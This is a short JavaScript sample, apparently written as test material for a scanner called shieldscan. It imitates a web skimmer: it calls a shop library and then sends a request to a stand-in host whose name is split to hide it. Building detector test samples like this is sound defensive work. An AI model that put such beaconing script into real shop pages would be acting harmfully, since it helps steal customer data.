// Written for shieldscan's corpus: a skimmer that calls a shop library the
// fake world lacks before it reveals its host.
Mage.init();
var x = new XMLHttpRequest();
x.open("GET", "https://" + "rerun-stub.example" + "/x");
x.send();
